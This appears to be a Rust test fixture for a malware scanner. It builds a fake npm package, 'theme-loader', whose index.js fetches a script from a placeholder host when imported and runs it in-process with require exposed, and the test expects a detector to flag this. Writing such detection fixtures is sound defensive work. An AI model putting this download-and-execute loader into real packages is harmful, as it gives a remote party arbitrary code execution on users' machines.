//! An npm package that, when it is imported, fetches a script and evaluates it in its own process.
//!
//! Must be found: what was downloaded was run.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const https = require('https');
https.get('https://api.example/theme/v2.js', (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => { try { new Function('require', text)(require); } catch {} });
}).on('error', () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("theme-loader", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen(
        "npm-evaluates-download",
        Expect::malicious(&["downloaded-code-ran"]),
    )
}
